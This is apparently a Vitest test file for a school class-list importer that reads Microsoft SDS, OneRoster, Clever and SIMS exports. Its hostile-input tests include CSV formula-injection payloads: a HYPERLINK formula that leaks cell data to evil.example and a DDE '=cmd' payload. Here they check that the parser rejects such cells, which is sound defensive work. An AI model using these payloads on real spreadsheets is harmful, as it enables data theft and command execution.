/**
 * The full class-list reader against real exports (Microsoft SDS samples, shared/data) and the
 * generated roster in every encoding, then hostile and awkward inputs with the exact message a
 * teacher sees. Pure, runs in Node.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseClassList } from './classlist';
import { parseDate, readClassListFile, readClassListFiles } from './read-file';
import type { ImportedPerson, ReadClassListResult } from './types';

const SHARED = new URL('../../../shared/data/', import.meta.url);
const shared = (path: string) => new Uint8Array(readFileSync(new URL(path, SHARED)));
const utf8 = (s: string) => new TextEncoder().encode(s);
const TODAY = { today: '2026-11-23' };

function ok(r: ReadClassListResult): Extract<ReadClassListResult, { ok: true }> {
  if (!r.ok) throw new Error(`expected success, got: ${r.error}`);
  return r;
}
function fail(r: ReadClassListResult): string {
  if (r.ok) throw new Error(`expected a refusal, got ${r.people.length} people (${r.format})`);
  return r.error;
}
const read = (text: string, name = 'list.csv') => ok(readClassListFile(utf8(text), name, TODAY));
const refuse = (text: string | Uint8Array, name = 'list.csv') => fail(readClassListFile(typeof text === 'string' ? utf8(text) : text, name, TODAY));
const names = (people: readonly ImportedPerson[]) => people.map((p) => `${p.forename} ${p.surname}`);
const sds = (dir: string) =>
  readdirSync(new URL(`microsoft-sds/${dir}/`, SHARED))
    .filter((f) => f.endsWith('.csv'))
    .sort()
    .map((name) => ({ name, bytes: shared(`microsoft-sds/${dir}/${name}`) }));

// ---------------------------------------------------------------------------------------------

/** Every sample file on its own: people count and format, or the "not people" refusal. */
const SDS_FILES: Record<string, { people: number; format: string; first: string } | { lists: string }> = {
  'SDS_v2.1/users.csv': { people: 8, format: 'Microsoft SDS v2.1 users.csv', first: 'Jack Craig' },
  'SDS_v2.1/roles.csv': { lists: 'roles' },
  'SDS_v2.1/relationships.csv': { lists: 'guardian links' },
  'SDS_v2.1/enrollments.csv': { lists: 'class enrolments' },
  'SDS_v2.1/classes.csv': { lists: 'classes' },
  'SDS_v2.1/demographics.csv': { lists: 'birth dates' },
  'SDS_v2.1/courses.csv': { lists: 'courses' },
  'SDS_v2.1/orgs.csv': { lists: 'schools and organisations' },
  'SDS_v2.1/academicSessions.csv': { lists: 'terms and school years' },
  'SDS_v2.1/userFlags.csv': { lists: 'user flags' },
  'SDS_v2/users.csv': { people: 29, format: 'Microsoft SDS v2 users.csv', first: 'Ora Klein' },
  'SDS_v2/enrollments.csv': { lists: 'class enrolments' },
  'SDS_v2/classes.csv': { lists: 'classes' },
  'SDS_v2/orgs.csv': { lists: 'schools and organisations' },
  'SDS_Format-25_Users/Student.csv': { people: 22, format: 'Microsoft SDS Student.csv', first: 'Ora Klein' },
  'SDS_Format-25_Users/Teacher.csv': { people: 2, format: 'Microsoft SDS Teacher.csv', first: 'Craig Beane' },
  'SDS_Format-25_Users/School.csv': { lists: 'schools' },
  'SDS_Format-25_Users/Section.csv': { lists: 'classes' },
  'SDS_Format-25_Users/StudentEnrollment.csv': { lists: 'class enrolments' },
  'SDS_Format-25_Users/TeacherRoster.csv': { lists: 'class enrolments' },
  'UK_Format-25_Users/Student.csv': { people: 22, format: 'Microsoft SDS (UK format) Student.csv', first: 'Ora Klein' },
  'UK_Format-25_Users/Teacher.csv': { people: 2, format: 'Microsoft SDS (UK format) Teacher.csv', first: 'Craig Beane' },
  'UK_Format-25_Users/School.csv': { lists: 'schools' },
  'UK_Format-25_Users/Section.csv': { lists: 'classes' },
  'UK_Format-25_Users/StudentEnrollment.csv': { lists: 'class enrolments' },
  'UK_Format-25_Users/TeacherRoster.csv': { lists: 'class enrolments' },
};

describe('readClassListFile: every Microsoft SDS sample file', () => {
  it('has an expectation for every CSV in shared/data/microsoft-sds', () => {
    const onDisk = readdirSync(new URL('microsoft-sds/', SHARED), { withFileTypes: true })
      .filter((d) => d.isDirectory())
      .flatMap((d) => sds(d.name).map((f) => `${d.name}/${f.name}`))
      .sort();
    expect(onDisk).toEqual(Object.keys(SDS_FILES).sort());
  });

  it.each(Object.entries(SDS_FILES))('%s', (path, expected) => {
    const file = path.split('/')[1]!;
    const r = readClassListFile(shared(`microsoft-sds/${path}`), file, TODAY);
    if ('lists' in expected) {
      expect(fail(r)).toBe(
        `${file} lists ${expected.lists}, not people. Choose the file that lists people: a class list with Forename and Surname columns, SDS or OneRoster users.csv (with roles.csv), or SDS Student.csv and Teacher.csv.`,
      );
    } else {
      const { people, format } = ok(r);
      expect(format).toBe(expected.format);
      expect(people).toHaveLength(expected.people);
      expect(names(people)[0]).toBe(expected.first);
    }
  });

  it('SDS v2.1 users.csv alone: everyone is a pupil, with a warning naming roles.csv', () => {
    const r = ok(readClassListFile(shared('microsoft-sds/SDS_v2.1/users.csv'), 'users.csv', TODAY));
    expect(new Set(r.people.map((p) => p.role))).toEqual(new Set(['pupil']));
    expect(r.warnings).toEqual([
      'users.csv: there is no role column, so everyone was counted as a pupil; choose roles.csv with users.csv to tell pupils, staff and parents apart',
    ]);
  });

  it('SDS v2 users.csv maps the mixed-case roles (Student, teacher, staff, faculty, aide, Professor, Lecturer)', () => {
    const r = ok(readClassListFile(shared('microsoft-sds/SDS_v2/users.csv'), 'users.csv', TODAY));
    expect(r.people.filter((p) => p.role === 'pupil')).toHaveLength(22);
    expect(r.people.filter((p) => p.role === 'staff').map((p) => `${p.forename} ${p.surname}`)).toEqual([
      'Craig Beane', 'Daisy Todd', 'Hope Todd', 'Edna Doyle', 'Shawna Roy', 'Tammie Benton', 'Susana Rocha',
    ]);
    expect(r.warnings).toEqual([]);
  });

  it('SDS classic Student.csv reads Birthdate as M/D/YYYY, in both the SDS and UK formats', () => {
    for (const dir of ['SDS_Format-25_Users', 'UK_Format-25_Users']) {
      const r = ok(readClassListFile(shared(`microsoft-sds/${dir}/Student.csv`), 'Student.csv', TODAY));
      expect(r.people[0]).toEqual({ role: 'pupil', forename: 'Ora', surname: 'Klein', dob: '2000-04-02' });
      expect(r.people[1]).toEqual({ role: 'pupil', forename: 'Beulah', surname: 'McMillan', dob: '1999-11-12' });
    }
  });
});

describe('readClassListFiles: sample folders read together', () => {
  it('SDS v2.1: roles, guardians (relationships), birth dates and classes are joined by sourcedId', () => {
    const r = ok(readClassListFiles(sds('SDS_v2.1'), TODAY));
    expect(r.format).toBe('Microsoft SDS v2.1 users.csv + academicSessions.csv + classes.csv + courses.csv + demographics.csv + enrollments.csv + orgs.csv + relationships.csv + roles.csv + userFlags.csv'.replace(/ \+ (academicSessions|courses|orgs|userFlags)\.csv/g, ''));
    expect(r.people).toEqual([
      { role: 'pupil', forename: 'Jack', surname: 'Craig', group: 'Biology 10', dob: '2001-07-02' },
      { role: 'parent', forename: 'Jean', surname: 'Craig' },
      { role: 'pupil', forename: 'Fred', surname: 'Hutch', group: 'Biology 10', dob: '2002-03-02' },
      { role: 'pupil', forename: 'Alice', surname: 'Smithee', group: 'Biology 10', dob: '2001-09-02' },
      { role: 'parent', forename: 'Bob', surname: 'Smithee' },
      { role: 'staff', forename: 'Jason', surname: 'Jonzer', group: 'Computer Science 101', dob: '1980-02-12' },
      { role: 'staff', forename: 'Kristen', surname: 'Fein', group: 'Biology 10', dob: '1973-10-26' },
      { role: 'pupil', forename: 'Simon', surname: 'Miller', group: 'Computer Science 101', dob: '2001-06-06' },
    ]);
    expect(r.groups).toEqual(['Biology 10', 'Computer Science 101']);
    expect(r.warnings).toEqual([
      'academicSessions.csv: not needed (terms and school years) and ignored',
      'courses.csv: not needed (courses) and ignored',
      'orgs.csv: not needed (schools and organisations) and ignored',
      'userFlags.csv: not needed (user flags) and ignored',
    ]);
  });

  it('SDS v2.1 users.csv + roles.csv without relationships: guardians are counted as pupils, with a warning', () => {
    const r = ok(readClassListFiles(sds('SDS_v2.1').filter((f) => ['users.csv', 'roles.csv'].includes(f.name)), TODAY));
    expect(r.format).toBe('Microsoft SDS v2.1 users.csv + roles.csv');
    expect(r.people.map((p) => p.role)).toEqual(['pupil', 'pupil', 'pupil', 'pupil', 'pupil', 'staff', 'staff', 'pupil']);
    expect(r.warnings).toEqual(['users.csv: 2 people have no role in roles.csv or relationships.csv and were counted as pupils (rows 3 and 6)']);
  });

  it('SDS v2: classes come from enrollments.csv + classes.csv', () => {
    const r = ok(readClassListFiles(sds('SDS_v2'), TODAY));
    expect(r.people).toHaveLength(29);
    expect(r.groups).toEqual(['Bioscience Innovation 102', 'Intro to Agriculture 101', 'Math - Algebra 1', 'Math - Algebra 2']);
    expect(r.people.find((p) => p.surname === 'Bisson')).toEqual({ role: 'pupil', forename: 'Williams', surname: 'Bisson', group: 'Bioscience Innovation 102' });
  });

  it.each(['SDS_Format-25_Users', 'UK_Format-25_Users'])('SDS classic %s: Student.csv + Teacher.csv with sections', (dir) => {
    const r = ok(readClassListFiles(sds(dir), TODAY));
    expect(r.people).toHaveLength(24);
    expect(r.people.filter((p) => p.role === 'staff')).toEqual([
      { role: 'staff', forename: 'Craig', surname: 'Beane', group: 'Math - Algebra 1' },
      { role: 'staff', forename: 'Daisy', surname: 'Todd', group: 'Math - Algebra 2' },
    ]);
    expect(r.warnings).toEqual(['School.csv: not needed (schools) and ignored']);
  });

  it('refuses a set with no people file, and refuses the whole set when one file is bad', () => {
    expect(fail(readClassListFiles(sds('SDS_v2.1').filter((f) => f.name !== 'users.csv'), TODAY))).toMatch(/^None of these files lists people\./);
    const bad = [...sds('SDS_v2'), { name: 'extra.csv', bytes: utf8('Forename,Surname\nAmy,\n') }];
    expect(fail(readClassListFiles(bad, TODAY))).toBe('extra.csv row 2: the Surname cell is empty');
    expect(fail(readClassListFiles([], TODAY))).toBe('No file was chosen');
  });
});

// ---------------------------------------------------------------------------------------------

const ROSTER: ImportedPerson[] = [
  { role: 'pupil', forename: 'Siobhán', surname: 'O’Brien', preferred: 'Shiv', group: '7A', dob: '2012-09-03' },
  { role: 'pupil', forename: 'Zoë', surname: 'Brontë', group: '8C', dob: '2011-02-14' },
  { role: 'pupil', forename: 'Renée', surname: 'Müller', group: '9B', dob: '2010-11-29' },
  { role: 'pupil', forename: 'José', surname: 'García, Jr', preferred: 'Pepe', group: '10D', dob: '2010-01-01' },
  { role: 'pupil', forename: 'Will "Billy"', surname: 'Smith', preferred: 'Will', group: '11E', dob: '2008-07-15' },
];

describe('readClassListFile: the generated roster in every encoding', () => {
  it.each(['roster-utf8.csv', 'roster-utf8bom.csv', 'roster-cp1252.csv', 'roster-utf16le-csv.csv', 'roster-utf16be.csv', 'roster-utf16le.txt'])(
    '%s gives the same five pupils, accents and ’ identical',
    (file) => {
      const r = ok(readClassListFile(shared(`generated/${file}`), file, TODAY));
      expect(r.format).toBe('SIMS / MIS export');
      expect(r.people).toEqual(ROSTER);
      expect(r.groups).toEqual(['7A', '8C', '9B', '10D', '11E']);
      expect(r.warnings).toEqual([`${file}: ignored the columns "Year" and "UPN" (Second Look keeps only names, role, group, date of birth, leaving date and photo consent)`]);
    },
  );

  it('roster.xlsx as raw bytes (not unpacked by expand.ts first) is refused with "save as CSV"', () => {
    expect(fail(readClassListFile(shared('generated/roster.xlsx'), 'roster.xlsx', TODAY))).toBe(
      'roster.xlsx is a spreadsheet workbook or archive that was not unpacked. Save the spreadsheet as CSV (in Excel: File › Save As › CSV UTF-8) and choose that file.',
    );
    // The same bytes under a .csv name are caught by their zip signature.
    expect(fail(readClassListFile(shared('generated/roster.xlsx'), 'roster.csv', TODAY))).toMatch(/^roster\.csv is a zip or Excel workbook.*Save the spreadsheet as CSV/);
  });
});

describe('readClassListFile: OneRoster, Clever and generic layouts', () => {
  it('OneRoster 1.1 users.csv with its role column (guardian → parent, administrator → staff)', () => {
    const r = read(
      [
        'sourcedId,status,dateLastModified,enabledUser,orgSourcedIds,role,username,userIds,givenName,familyName,middleName,identifier,email,sms,phone,agentSourcedIds,grades,password',
        'u1,,,true,o1,student,ab,,Amira,Begum,,,,,,g1,07,',
        'u2,,,true,o1,teacher,cd,,Chris,Doyle,,,,,,,,',
        'g1,,,true,o1,guardian,ef,,Farah,Begum,,,,,,u1,,',
        'a1,,,true,o1,administrator,gh,,Gail,Hart,,,,,,,,',
      ].join('\n'),
      'users.csv',
    );
    expect(r.format).toBe('OneRoster 1.1 users.csv');
    expect(r.people.map((p) => `${p.role}:${p.forename} ${p.surname}`)).toEqual(['pupil:Amira Begum', 'staff:Chris Doyle', 'parent:Farah Begum', 'staff:Gail Hart']);
  });

  it('OneRoster 1.2 users.csv (preferredGivenName) + roles.csv (primary role wins)', () => {
    const users = [
      'sourcedId,status,dateLastModified,enabledUser,username,userIds,givenName,familyName,middleName,identifier,email,sms,phone,agentSourcedIds,grades,password,userMasterIdentifier,resourceSourcedIds,preferredGivenName,preferredMiddleName,preferredFamilyName,primaryOrgSourcedId,pronouns',
      'u1,,,true,ab,,Thomas,Ng,,,,,,,,,,,Tom,,,o1,',
      'u2,,,true,cd,,Priya,Shah,,,,,,,,,,,,,,o1,',
    ].join('\n');
    const roles = ['sourcedId,status,dateLastModified,userSourcedId,roleType,role,beginDate,endDate,orgSourcedId,userProfileSourcedId', 'r1,,,u1,primary,student,,,o1,', 'r2,,,u2,secondary,parent,,,o1,', 'r3,,,u2,primary,teacher,,,o1,'].join('\n');
    const r = ok(readClassListFiles([{ name: 'users.csv', bytes: utf8(users) }, { name: 'roles.csv', bytes: utf8(roles) }], TODAY));
    expect(r.format).toBe('OneRoster 1.2 users.csv + roles.csv');
    expect(r.people).toEqual([
      { role: 'pupil', forename: 'Thomas', preferred: 'Tom', surname: 'Ng' },
      { role: 'staff', forename: 'Priya', surname: 'Shah' },
    ]);
  });

  it('Clever students.csv (First_name, Last_name, DOB as MM/DD/YYYY)', () => {
    const r = read('School_id,Student_id,Student_number,State_id,Last_name,Middle_name,First_name,Grade,Gender,Graduation_year,DOB\n1,s1,,,Lopez,,Maria,7,F,2030,03/14/2013\n', 'students.csv');
    expect(r.format).toBe('Clever students.csv');
    expect(r.people).toEqual([{ role: 'pupil', forename: 'Maria', surname: 'Lopez', dob: '2013-03-14' }]);
  });

  it.each([
    ['comma', 'First Name,Last Name\nAmy,Rees\nBen,Cole\n'],
    ['tab', 'First Name\tLast Name\nAmy\tRees\nBen\tCole\n'],
    ['semicolon', 'First Name;Last Name\nAmy;Rees\nBen;Cole\n'],
    ['pipe', 'first_name|last_name\nAmy|Rees\nBen|Cole\n'],
  ])('Generic CSV, %s-separated', (_, text) => {
    const r = read(text);
    expect(r.format).toBe('Generic CSV');
    expect(names(r.people)).toEqual(['Amy Rees', 'Ben Cole']);
  });

  it('refuses a single Name column, asking for separate columns', () => {
    expect(refuse('Name,Class\n"Smith, John",7A\n')).toBe(
      'list.csv has the whole name in one "Name" column. Second Look needs the forename and surname in separate columns (for example "Forename" and "Surname"), because "Smith, John" and "John Smith" cannot be told apart reliably. Export the list again with separate name columns, or split the column in Excel (Data › Text to Columns).',
    );
  });

  it('refuses a file with no name columns, quoting what it found', () => {
    expect(refuse('Colour,Size\nred,9\n')).toBe(
      'list.csv: there are no forename and surname columns. The first row should name the columns, e.g. "Forename,Surname" or "Legal Forename,Preferred Forename,Surname,Reg Group" (it has "Colour" and "Size")',
    );
  });

  it('agrees with parseClassList on a plain class list', () => {
    const text = 'Legal Forename,Preferred Forename,Surname,Reg Group,Role\nOlivia,Liv,Hart,7A,\nNoah,,Price,7B,staff\n';
    const old = parseClassList(text, 'list.csv');
    if (!old.ok) throw new Error(old.error);
    const r = read(text);
    expect(r.people.map(({ group: _group, ...p }) => p)).toEqual(old.people);
    expect(r.groups).toEqual(old.groups);
  });
});

describe('readClassListFile: MIS fields (DOB, leaving date, photo consent, title rows)', () => {
  const MIS = [
    'Pupil list – Year 7 (printed 01/09/2026)',
    '',
    'Adno,Legal Surname,Legal Forename,Preferred Surname,Preferred Forename,Reg Group,Date of Birth,Date of Leaving,Photo Consent (Website)',
    '001,Ahmed,Yusuf,,Yus,7A,03/09/2013,,Yes',
    '002,Brown,Ellie-Mae,Smith-Brown,,7A,2013-12-25,,no',
    '003,Carter,Luca,,,7B,29/02/2012,20/07/2025,',
    '004,Davies,Ffion,,,7B,31/02/2013,31/08/2027,maybe',
    '005,Evans,Rhys,,,7B,14 Feb 2013,,N',
  ].join('\r\n');

  it('reads dates as ISO, maps consent, and makes a pupil who has left a former pupil', () => {
    const r = read(MIS, 'sims.csv');
    expect(r.format).toBe('SIMS / MIS export');
    expect(r.people).toEqual([
      { role: 'pupil', forename: 'Yusuf', preferred: 'Yus', surname: 'Ahmed', group: '7A', dob: '2013-09-03', photoConsent: true },
      { role: 'pupil', forename: 'Ellie-Mae', surname: 'Brown', preferredSurname: 'Smith-Brown', group: '7A', dob: '2013-12-25', photoConsent: false },
      { role: 'former-pupil', forename: 'Luca', surname: 'Carter', group: '7B', dob: '2012-02-29', leftOn: '2025-07-20' },
      { role: 'pupil', forename: 'Ffion', surname: 'Davies', group: '7B', leftOn: '2027-08-31' },
      { role: 'pupil', forename: 'Rhys', surname: 'Evans', group: '7B', dob: '2013-02-14', photoConsent: false },
    ]);
    expect(r.warnings).toEqual([
      'sims.csv: skipped 2 lines above the header row',
      'sims.csv: ignored the column "Adno" (Second Look keeps only names, role, group, date of birth, leaving date and photo consent)',
      'sims.csv: the Date of Birth cell is not a date this reader knows (use dd/mm/yyyy) and was left out (row 7)',
      'sims.csv: the Photo Consent (Website) cell is not yes or no and was left out (row 7)',
    ]);
  });

  it.each([
    ['03/09/2013', 'dmy', '2013-09-03'],
    ['03/09/2013', 'mdy', '2013-03-09'],
    ['3.9.2013', 'dmy', '2013-09-03'],
    ['2013-09-03T00:00:00Z', 'dmy', '2013-09-03'],
    ['2013-09-03 00:00:00', 'mdy', '2013-09-03'],
    ['3-Sept-2013', 'dmy', '2013-09-03'],
    ['29/02/2013', 'dmy', null],
    ['13/13/2013', 'dmy', null],
    ['03/09/13', 'dmy', null],
    ['yesterday', 'dmy', null],
  ] as const)('parseDate(%s, %s) = %s', (text, order, expected) => {
    expect(parseDate(text, order)).toBe(expected);
  });
});

describe('readClassListFile: hostile and awkward input', () => {
  it('refuses binary bytes', () => {
    const bytes = new Uint8Array(2048).map((_, i) => (i * 131 + 7) % 256);
    expect(refuse(bytes, 'pupils.csv')).toMatch(/^pupils\.csv does not look like a text file/);
  });

  it('refuses a file over 10 MB by one byte, before decoding it', () => {
    const bytes = new Uint8Array(10 * 1024 * 1024 + 1).fill(0x41);
    expect(refuse(bytes, 'big.csv')).toBe('big.csv is too big: the limit is 10 MB');
  });

  it('reads a file of exactly 100,000 rows and refuses 100,001', () => {
    // Distinct letters-only surnames, so no row is a repeat of another.
    const word = (i: number) => i.toString(26).replace(/[0-9a-p]/g, (c) => String.fromCharCode(97 + parseInt(c, 26)));
    const rows = (n: number) => 'Forename,Surname\n' + Array.from({ length: n }, (_, i) => `Amy,B${word(i)}`).join('\n');
    expect(read(rows(100_000)).people).toHaveLength(100_000);
    expect(refuse(rows(100_001))).toBe('list.csv has more than 100,000 rows, which is the limit: split it into smaller lists');
    // About a second alone; several times that on a loaded machine.
  }, 60_000);

  it('refuses a ragged row whose extra cells hold data (an unquoted comma), naming the row', () => {
    expect(refuse('Forename,Surname,Reg Group\nJosé,García, Jr,10D\nAmy,Rees,7A\n')).toBe(
      'list.csv row 2 has 4 cells but the header row has 3: if a name contains a comma, it must be in quotes',
    );
  });

  it('accepts short rows and empty trailing cells; a short row missing a name is refused naming the column', () => {
    expect(read('Forename,Surname,Reg Group\nAmy,Rees\nBen,Cole,7A,,\n').people).toEqual([
      { role: 'pupil', forename: 'Amy', surname: 'Rees' },
      { role: 'pupil', forename: 'Ben', surname: 'Cole', group: '7A' },
    ]);
    expect(refuse('Legal Forename,Legal Surname\nAmy\n')).toBe('list.csv row 2: the Legal Surname cell is empty');
  });

  it('skips a row whose name cell is a formula, keeps ="Name" and name-like cells, and drops a formula group', () => {
    const r = read(
      [
        'Forename,Surname,Preferred Forename,Reg Group',
        'Amy,"=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",,7A',
        '@SUM(1+1),Cole,,7A',
        'Cara,"=""Dunn""",-,7B',
        'Dev,Patel,,=cmd|\' /C calc\'!A0',
        '+Eve,Fox,,7C',
      ].join('\n'),
    );
    expect(r.people).toEqual([
      { role: 'pupil', forename: 'Cara', surname: 'Dunn', group: '7B' },
      { role: 'pupil', forename: 'Dev', surname: 'Patel' },
      { role: 'pupil', forename: 'Eve', surname: 'Fox', group: '7C' },
    ]);
    expect(r.warnings).toEqual([
      'list.csv: skipped: the Surname cell is a spreadsheet formula, not a name (row 2)',
      'list.csv: skipped: the Forename cell is a spreadsheet formula, not a name (row 3)',
      'list.csv: the Reg Group cell is a spreadsheet formula and was left out (row 5)',
    ]);
  });

  it('skips blank rows and keeps repeated rows once, with a warning', () => {
    const r = read('Forename,Surname\n\nAmy,Rees\n , \nAmy,Rees\n\n\nBen,Cole\nAMY,REES\n');
    expect(names(r.people)).toEqual(['Amy Rees', 'Ben Cole']);
    expect(r.warnings).toEqual(['list.csv: 2 repeated rows were kept once (rows 5 and 9)']);
  });

  it('reads a UTF-16LE file without a BOM', () => {
    const text = 'Forename\tSurname\r\nZoë\tBrontë\r\n';
    const bytes = new Uint8Array(text.length * 2);
    for (let i = 0; i < text.length; i++) bytes[i * 2] = text.charCodeAt(i);
    expect(ok(readClassListFile(bytes, 'unicode.txt', TODAY)).people).toEqual([{ role: 'pupil', forename: 'Zoë', surname: 'Brontë' }]);
  });

  it('refuses a header-only file, an empty file and a blank file', () => {
    expect(refuse('Legal Forename,Preferred Forename,Surname,Reg Group\r\n')).toBe('list.csv has a header row but no names under it');
    expect(refuse('')).toBe('list.csv is empty');
    expect(refuse('\n \n\t\n')).toBe('list.csv is empty');
  });

  it('refuses an unclosed quote and an unknown MIS role, naming row and column', () => {
    expect(refuse('Forename,Surname\n"Amy,Rees\nBen,Cole\n')).toBe('list.csv row 2: a cell starts with a quote mark (") that is never closed');
    expect(refuse('Forename,Surname,Role\nAmy,Rees,headmaster\n')).toBe('list.csv row 2: the Role cell says "headmaster"; use pupil, former pupil, parent or staff');
  });

  it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])('a Role of "%s" is an unknown role, not an Object.prototype key', (role) => {
    expect(refuse(`Forename,Surname,Role\nAmy,Rees,${role}\n`)).toBe(`list.csv row 2: the Role cell says "${role}"; use pupil, former pupil, parent or staff`);
    const users = `sourcedId,givenName,familyName,role\nu1,Amy,Rees,${role}\n`;
    const r = read(users, 'users.csv');
    expect(r.people).toEqual([{ role: 'staff', forename: 'Amy', surname: 'Rees' }]);
    expect(r.warnings).toEqual([`users.csv: counted the role "${role}" as staff`]);
  });

  it('lists the first three problems and counts the rest', () => {
    const text = 'Forename,Surname\n' + Array.from({ length: 6 }, () => 'Amy,').join('\n');
    expect(refuse(text)).toBe(
      'list.csv row 2: the Surname cell is empty\nlist.csv row 3: the Surname cell is empty\nlist.csv row 4: the Surname cell is empty\n…and 3 more problems',
    );
  });

  it('refuses an over-long name cell and never echoes a local path', () => {
    expect(refuse(`Forename,Surname\n${'a'.repeat(201)},Rees\n`, 'C:\\Users\\head\\Desktop\\list.csv')).toBe(
      'list.csv row 2: the Forename cell is too long (more than 200 characters)',
    );
  });
});
